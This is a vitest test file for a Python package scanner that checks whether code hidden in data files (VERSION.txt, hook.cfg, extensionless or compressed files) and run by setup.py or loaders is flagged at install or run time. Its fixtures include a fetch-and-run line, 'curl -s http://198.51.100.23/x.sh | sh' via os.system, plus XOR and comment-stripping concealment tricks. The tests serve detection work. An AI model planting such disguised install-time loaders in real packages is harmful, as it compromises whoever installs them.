// Files the package runs as Python under another name (src/features/run-files.ts).
import { beforeAll, describe, expect, it } from 'vitest';
import { extractFeatures, initFeatures } from '../../src/features/index.js';
import { PKG_INFO, viewOf } from './view.js';

beforeAll(() => initFeatures());

const CURL = "import os\nos.system('curl -s http://198.51.100.23/x.sh | sh')\n";

describe('files run as Python', () => {
  it('reads a data file that setup.py execs, at install time, and one a module loads, when it runs', () => {
    const analysis = extractFeatures(
      viewOf({
        'p-1.0/PKG-INFO': PKG_INFO,
        'p-1.0/setup.py':
          "from setuptools import setup\nexec(open('p/VERSION.txt').read())\nsetup(name='p')\n",
        'p-1.0/p/VERSION.txt': CURL,
        'p-1.0/p/plugins.py':
          "from importlib.machinery import SourceFileLoader\ndef load(d):\n    return SourceFileLoader('x', d + '/hook.cfg').load_module()\n",
        'p-1.0/p/hook.cfg': CURL,
      }),
    );
    const hits = analysis.evidence.filter((e) => e.rule === 'dangerous-command');
    expect(hits.map((e) => [e.path, e.line, e.context])).toEqual([
      ['p-1.0/p/VERSION.txt', 2, 'install'],
      ['p-1.0/p/hook.cfg', 2, 'runtime'],
    ]);
  });
  it('leaves files the code only reads, and files named near an exec that are not Python', () => {
    const analysis = extractFeatures(
      viewOf({
        'p-1.0/PKG-INFO': PKG_INFO,
        'p-1.0/setup.py':
          "from setuptools import setup\nexec(open('p/_version.py').read())\nsetup(name='p', long_description=open('README.md').read())\n",
        'p-1.0/p/_version.py': "__version__ = '1.0'\n",
        'p-1.0/README.md':
          '# p\n\nRun `curl -s http://198.51.100.23/x.sh | sh` to install: os.system(cmd) is how it works.\n',
        'p-1.0/p/data.txt': CURL,
      }),
    );
    expect(analysis.evidence.filter((e) => e.rule === 'dangerous-command')).toEqual([]);
  });
  it('follows a data file that runs another, and names without an extension', () => {
    const analysis = extractFeatures(
      viewOf({
        'p-1.0/PKG-INFO': PKG_INFO,
        'p-1.0/setup.py':
          "from setuptools import setup\nexec(open('p/stage1.txt').read())\nsetup(name='p')\n",
        'p-1.0/p/stage1.txt': "import runpy, os\nrunpy.run_path(os.path.join('p', 'VERSION'))\n",
        'p-1.0/p/VERSION': CURL,
      }),
    );
    expect(
      analysis.evidence.filter((e) => e.rule === 'dangerous-command').map((e) => [e.path, e.context]),
    ).toEqual([['p-1.0/p/VERSION', 'install']]);
    expect(analysis.gaps ?? []).toEqual([]);
  });
  it('is a gap when the file a runner names cannot be read as Python: compressed, unparsable or a zip on sys.path', () => {
    const blob = new Uint8Array([0x78, 0x9c, 0, 1, 2, 0xff, 0xfe, 0x80, 0x81]);
    const analysis = extractFeatures(
      viewOf({
        'p-1.0/PKG-INFO': PKG_INFO,
        'p-1.0/setup.py':
          "import zlib\nfrom setuptools import setup\nexec(zlib.decompress(open('p/blob.bin', 'rb').read()))\nsetup(name='p')\n",
        'p-1.0/p/blob.bin': blob,
        'p-1.0/p/__init__.py':
          "import os, sys\nhere = os.path.dirname(__file__)\nsys.path.insert(0, os.path.join(here, 'vendor.zip'))\nsrc = os.path.join(here, 'hook.cfg')\nexec(open(src).read())\n",
        'p-1.0/p/vendor.zip': new Uint8Array([0x50, 0x4b, 3, 4, 0, 0, 0xff]),
        'p-1.0/p/hook.cfg': 'def f(:\n  os.system(x\n',
      }),
    );
    expect((analysis.gaps ?? []).map((g) => [g.path, /\((p-1\.0\/[^)]+)\)/.exec(g.reason)?.[1]])).toEqual([
      ['p-1.0/p/blob.bin', 'p-1.0/setup.py:3'],
      ['p-1.0/p/vendor.zip', 'p-1.0/p/__init__.py:3'],
      ['p-1.0/p/hook.cfg', 'p-1.0/p/__init__.py:5'],
    ]);
  });
  it('is no gap for prose named elsewhere in a file that runs one of its own modules', () => {
    const analysis = extractFeatures(
      viewOf({
        'p-1.0/PKG-INFO': PKG_INFO,
        'p-1.0/setup.py':
          "from setuptools import setup\nabout = {}\nexec(open('p/__about__.py').read(), about)\nwith open('README.md') as f:\n    readme = f.read()\nsetup(name='p', long_description=readme)\n",
        'p-1.0/p/__about__.py': "__version__ = '1.0'\n",
        'p-1.0/README.md': '# p (beta)\n\n```\npip install p\n```\n',
        'p-1.0/p/data.bin': new Uint8Array([0, 1, 2, 0xff]),
      }),
    );
    expect(analysis.gaps ?? []).toEqual([]);
  });
  it('is no gap for a stale name, a display file name, another file of the same name, or prose on the same line', () => {
    const analysis = extractFeatures(
      viewOf({
        'p-1.0/PKG-INFO': PKG_INFO,
        'p-1.0/setup.py': [
          'import os',
          'from setuptools import setup',
          "f = open('README.md')",
          'readme = f.read()',
          "with open(os.path.join('p', 'about.cfg')) as f:",
          '    about = {}',
          '    exec(f.read(), about)',
          "code = compile(readme, os.path.join('p', 'page.html'), 'exec')",
          "setup(name='p', version=eval(open('p/v.txt').read()), long_description=open('README.md').read())",
          '',
        ].join('\n'),
        'p-1.0/README.md': '# p (beta)\n',
        'p-1.0/p/about.cfg': "version = '1.0'\n",
        'p-1.0/p/v.txt': "'1.0'\n",
        'p-1.0/p/page.html': '<html>{{ x }}</html>\n',
        'p-1.0/tests/data/about.cfg': '[about]\nname = my package\n',
      }),
    );
    expect(analysis.gaps ?? []).toEqual([]);
    // black's split with statement, two files in one with, and a template of the same name below the runner.
    const styled = extractFeatures(
      viewOf({
        'p-1.0/PKG-INFO': PKG_INFO,
        'p-1.0/setup.py': [
          'import os',
          'here = os.path.dirname(__file__)',
          'with open(os.path.join(here, "README.md")) as f:',
          '    readme = f.read()',
          'about = {}',
          'with open(',
          '    os.path.join(here, "src", "p", "__about__.py"), encoding="utf-8"',
          ') as f:',
          '    exec(f.read(), about)',
          "with open('README.md') as rf, open('src/p/_v.txt') as vf:",
          '    exec(vf.read(), about)',
          "exec(open(os.path.join(here, 'version.py')).read(), about)",
          '',
        ].join('\n'),
        'p-1.0/README.md': '# p (beta)\n',
        'p-1.0/version.py': "V = '1'\n",
        'p-1.0/src/p/__about__.py': "__version__ = '1.0'\n",
        'p-1.0/src/p/_v.txt': "W = '1'\n",
        'p-1.0/src/p/templates/{{cookiecutter.slug}}/version.py': '{% if x %}\nV = 1\n{% endif %}\n',
      }),
    );
    expect(styled.gaps ?? []).toEqual([]);
  });
  it('reads a run file stored as a link, and fails closed past the chain limit, on a binary .py and on a transform', () => {
    const link = extractFeatures(
      viewOf(
        {
          'p-1.0/PKG-INFO': PKG_INFO,
          'p-1.0/setup.py':
            "from setuptools import setup\nexec(open('p/VERSION.txt').read())\nsetup(name='p')\n",
        },
        'sdist',
        [
          {
            path: 'p-1.0/p/VERSION.txt',
            type: 'hardlink',
            size: CURL.length,
            data: new TextEncoder().encode(CURL),
          },
        ],
      ),
    );
    expect(link.evidence.filter((e) => e.rule === 'dangerous-command').map((e) => e.path)).toEqual([
      'p-1.0/p/VERSION.txt',
    ]);
    const chain: Record<string, string> = {
      'p-1.0/PKG-INFO': PKG_INFO,
      'p-1.0/setup.py': "exec(open('p/s1.txt').read())\n",
    };
    for (let i = 1; i <= 6; i++) chain[`p-1.0/p/s${i}.txt`] = `exec(open('p/s${i + 1}.txt').read())\n`;
    expect((extractFeatures(viewOf(chain)).gaps ?? []).map((g) => g.path)).toEqual(['p-1.0/p/s5.txt']);
    const tricks = extractFeatures(
      viewOf({
        'p-1.0/PKG-INFO': PKG_INFO,
        'p-1.0/setup.py':
          "exec(bytes(b ^ 7 for b in open('p/_data.py', 'rb').read()))\nexec(open('p/res.cfg').read().replace('#', ''))\n",
        'p-1.0/p/_data.py': new Uint8Array([0x6e, 0x6a, 0x77, 0x00, 0xff, 0xfe]),
        'p-1.0/p/res.cfg': `#${CURL.split('\n').join('\n#')}`,
      }),
    );
    expect((tricks.gaps ?? []).map((g) => g.path).sort()).toEqual(['p-1.0/p/_data.py', 'p-1.0/p/res.cfg']);
  });
});
